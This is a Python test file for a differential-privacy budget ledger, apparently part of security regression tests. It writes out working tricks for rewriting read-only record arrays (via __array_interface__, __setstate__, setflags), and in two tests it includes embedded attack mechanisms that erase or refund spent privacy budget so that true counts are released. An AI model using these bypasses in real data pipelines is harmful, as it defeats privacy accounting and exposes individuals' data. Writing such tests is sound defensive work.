    """Releases every count of t = 1 at ``first`` (ε = 1, w = 3, records kept as ``execute`` keeps them),
    rewrites that release's record's amounts to 0 by ``rewrite``, then releases them again at 0.7. Returns the
    ε the window [1, 3] really paid for: the amounts of the releases that came out (finite).

    Every test here uses its own odd ``first``, and the record is written back afterwards: a record's amounts
    can be an array the ledger shares with later charges of the same amount, in any ledger of the process
    (rewritten, it would leak into other tests)."""
    ledger = bc.WindowLedger(epsilon=1.0, w=3, runs=runs, seed=5, sampler="numpy-laplace", keep_records=True)
    stream = bc.GuardedStream(DATA)
    ledger.bind(stream)
    secret = stream.secret(1)
    ledger.laplace(secret, first)
    amounts = ledger.records[0].amounts
    original = amounts.copy()
    try:
        rewrite(amounts, np.zeros_like(original))
    except (ValueError, TypeError, AttributeError):
        pass
    try:
        second = ledger.laplace(secret, 0.7)
    except bc.BudgetExceeded:
        return first
    finally:
        _restore(rewrite, amounts, original)
    return first + 0.7 if np.isfinite(second).all() else first


def _restore(rewrite: Callable[[np.ndarray, np.ndarray], None], amounts: np.ndarray, original: np.ndarray) -> None:
    if not np.array_equal(amounts, original):
        rewrite(amounts, original)
    amounts.setflags(write=False)


def _through_the_array_interface(amounts: np.ndarray, values: np.ndarray) -> None:
    """A writable array over the record's memory, built from its public ``__array_interface__``."""
    interface = dict(amounts.__array_interface__)
    interface["data"] = (interface["data"][0], False)  # (pointer, read-only flag)
    holder = type("Holder", (), {"__array_interface__": interface})()
    np.asarray(holder)[:] = values


def _by_setstate(amounts: np.ndarray, values: np.ndarray) -> None:
    amounts.__setstate__((1, amounts.shape, amounts.dtype, False, values.astype(amounts.dtype).tobytes()))


def _made_writable(amounts: np.ndarray, values: np.ndarray) -> None:
    amounts.setflags(write=True)
    amounts[:] = values


_HISTORY = "history: a release's kept record zeroed {}; the window sums follow the record (1.3 eps at t = 1)"


def test_a_record_cannot_be_rewritten_through_the_array_interface() -> None:
    assert _overspend(_through_the_array_interface, 0.6011, runs=2) <= 1.0


def test_a_record_of_one_run_cannot_be_rewritten_through_the_array_interface() -> None:
    """Closed today (regression guard): a ledger of one run keeps its window sum apart from this alias."""
    assert _overspend(_through_the_array_interface, 0.6013, runs=1) <= 1.0


def test_a_record_cannot_be_rewritten_by_setstate() -> None:
    assert _overspend(_by_setstate, 0.6017, runs=2) <= 1.0


def test_a_record_of_one_run_cannot_be_rewritten_by_setstate() -> None:
    """Closed today (regression guard): a ledger of one run keeps its window sum apart from the record."""
    assert _overspend(_by_setstate, 0.6019, runs=1) <= 1.0


def test_a_record_cannot_be_made_writable() -> None:
    assert _overspend(_made_writable, 0.6023, runs=2) <= 1.0


def test_a_record_of_one_run_cannot_be_made_writable() -> None:
    """Closed today (regression guard): a release's record on a ledger of one run accepts
    ``setflags(write=True)``, but the ledger's window sum does not follow it."""
    assert _overspend(_made_writable, 0.6029, runs=1) <= 1.0


def test_a_spends_record_of_one_run_cannot_be_made_writable() -> None:
    """Closed today (regression guard): the record of a plain ``spend`` on a ledger of one run refuses
    ``setflags(write=True)``, and the window keeps the spend."""
    ledger = bc.WindowLedger(epsilon=1.0, w=3, keep_records=True)
    ledger.spend(1, 0.6031, purpose="publication")
    with pytest.raises(ValueError):
        ledger.records[0].amounts.setflags(write=True)
    with pytest.raises(bc.BudgetExceeded):
        ledger.spend(1, 0.6031, purpose="publication")


def test_a_record_cannot_be_replaced_by_setattr() -> None:
    """Closed today (regression guard): ``object.__setattr__(record, "amounts", zeros)``."""
    ledger = bc.WindowLedger(epsilon=1.0, w=3, runs=2, keep_records=True)
    ledger.spend(1, 0.6037, purpose="publication")
    with contextlib.suppress(AttributeError, TypeError):  # refused outright, or accepted with no effect
        object.__setattr__(ledger.records[0], "amounts", np.zeros(2))
    with pytest.raises(bc.BudgetExceeded):
        ledger.spend(1, 0.6037, purpose="publication")


def test_a_rewritten_record_is_seen_by_the_audit() -> None:
    """Whatever the ledger did, a record rewritten in place must not make the audit of the kept records say
    ok over a window that paid for 1.3 ε of releases."""
    ledger = bc.WindowLedger(epsilon=1.0, w=3, runs=2, seed=5, sampler="numpy-laplace", keep_records=True)
    stream = bc.GuardedStream(DATA)
    ledger.bind(stream)
    ledger.laplace(stream.secret(1), 0.6041)
    amounts = ledger.records[0].amounts
    original = amounts.copy()
    try:
        _through_the_array_interface(amounts, np.zeros(2))
        ledger.laplace(stream.secret(1), 0.7)
    except bc.BudgetExceeded:
        return  # the ledger refused the overspend: nothing to audit
    finally:
        _restore(_through_the_array_interface, amounts, original)
        _through_the_array_interface(amounts, np.zeros(2))  # the record as the mechanism left it
    report = bc.audit_windows(ledger.records, epsilon=1.0, w=3, runs=2)
    _restore(_through_the_array_interface, amounts, original)
    assert not report.ok, "1.3 eps of releases at t = 1, and the audit of the records says ok"


def test_a_mechanism_under_execute_cannot_erase_its_own_spends(
    mechanism_module: Callable[[str, str], str],
) -> None:
    """``execute`` keeps records (for audits); a mechanism releases the counts of t = 1 at 0.6043, zeroes that
    release's record through ``__array_interface__`` and releases them again at 0.7043: 1.3086 ε in the window
    [1, 3], accepted. (An odd amount: a zeroed record's array can be shared with later charges of the same
    amount in the process.)"""
    name = mechanism_module(
        "attack4_eraser",
        """
        def erase(record, value):
            interface = dict(record.amounts.__array_interface__)
            interface["data"] = (interface["data"][0], False)
            np.asarray(type("Holder", (), {"__array_interface__": interface})())[:] = value


        @attrs.frozen
        class Mech:
            name: str = "eraser"

            def run(self, stream, ledger):
                out = np.zeros((ledger.runs, stream.length, stream.dimensions))
                secret = stream.secret(1)
                first = ledger.laplace(secret, 0.6043)
                erase(ledger.records[-1], 0.0)
                second = ledger.laplace(secret, 0.7043)
                out[:, :] = (0.6043 * first + 0.7043 * second)[:, None, :] / 1.3086
                return out
        """,
    )
    try:
        execution = bc.execute(bc.load_mechanism(f"{name}:Mech"), DATA, epsilon=1.0, w=3, runs=2, seed=5)
    except bc.BudgetExceeded:
        return  # the second release at t = 1 was refused: at most 0.6043 in any window
    assert not np.isfinite(execution.releases).all(), "two releases of t = 1, 1.3086 eps in [1, 3], accepted"


def test_a_scratch_ledgers_record_cannot_refund_the_publishers_ledger(
    mechanism_module: Callable[[str, str], str], tmp_path: Path
) -> None:
    """At every t the mechanism makes a scratch in-memory ledger (keep_records=True), spends an odd amount there
    and overwrites that record's amounts with -1000; the same amount spent on the publisher's ledger is then
    charged -1000, ``remaining(t)`` is about 1001 and the release at that ε is the true count (discrete Laplace
    at scale 1/1001 is 0 but with probability ~e^-1001). The record is written back at once (no trace in the
    process). Only a durable ledger (``ledger.journal``) is poisoned; an in-memory one ignores it. The file's
    audit fails afterwards (and reopening it is LedgerCorrupt), but every row was already published."""
    name = mechanism_module(
        "attack4_refund",
        """
        import budgetcheck as bc


        def overwrite(array, value):
            interface = dict(array.__array_interface__)
            interface["data"] = (interface["data"][0], False)
            np.asarray(type("Holder", (), {"__array_interface__": interface})())[:] = value


        def releases(stream, ledger):
            amount = 0.3183098861837907
            for secret in stream:
                scratch = bc.WindowLedger(epsilon=1.0, w=1, keep_records=True)
                scratch.spend(1, amount, purpose="reservation")
                shared = scratch.records[0].amounts
                overwrite(shared, -1000.0)
                try:
                    ledger.spend(secret.t, amount, purpose="reservation")
                finally:
                    overwrite(shared, amount)
                yield ledger.laplace(secret, ledger.remaining(secret.t))


        @attrs.frozen
        class Mech:
            name: str = "refund"

            def run(self, stream, ledger):
                return as_run(releases, stream, ledger)

            def releases(self, stream, ledger):
                return releases(stream, ledger)
        """,
    )
    released = _published(bc.load_mechanism(f"{name}:Mech"), tmp_path, ROWS)
    assert not _leaked(released, ROWS), "publish (discrete sampler, a ledger file) released the true counts"


def test_a_durable_ledger_does_not_follow_its_records() -> None:
    """Closed today (regression guard): a ledger file's records are read from the file, and its window sums
    do not follow a record rewritten in place (a publisher's ledger)."""
    path = Path(os.environ.get("TMPDIR", "/tmp")) / f"attack4-durable-{os.getpid()}.db"
    for suffix in ("", "-wal", "-shm"):
        Path(f"{path}{suffix}").unlink(missing_ok=True)
    ledger = bc.open_ledger(path, bc.WindowLedger(epsilon=1.0, w=3), durability="process")
    try:
        ledger.spend(1, 0.6047, purpose="publication")
        amounts = ledger.records[0].amounts
        original = amounts.copy()
        _through_the_array_interface(amounts, np.zeros(1))
        try:
            with pytest.raises(bc.BudgetExceeded):
                ledger.spend(1, 0.6047, purpose="publication")
        finally:
            _restore(_through_the_array_interface, amounts, original)
    finally:
        ledger.close()
        for suffix in ("", "-wal", "-shm"):
            Path(f"{path}{suffix}").unlink(missing_ok=True)


def test_an_amount_array_changed_after_the_spend_changes_nothing() -> None:
    """Closed today (regression guard): the caller's own amounts array, zeroed after the spend."""
    ledger = bc.WindowLedger(epsilon=1.0, w=3, runs=2, keep_records=True)
    amounts = np.array([0.6, 0.6])
    ledger.spend(1, amounts, purpose="publication")
    amounts[:] = 0.0
    with pytest.raises(bc.BudgetExceeded):
        ledger.spend(1, 0.6, purpose="publication")


def test_an_epsilon_array_changed_after_construction_changes_nothing() -> None:
    """Closed today (regression guard): the ε array given to ``with_epsilons``, raised after construction."""
    epsilons = np.array([1.0, 1.0])
    ledger = bc.WindowLedger.with_epsilons(epsilons, 3)
    ledger.spend(1, 0.6, purpose="publication")
    epsilons[:] = 10.0
    with pytest.raises(bc.BudgetExceeded):
        ledger.spend(1, 0.6, purpose="publication")
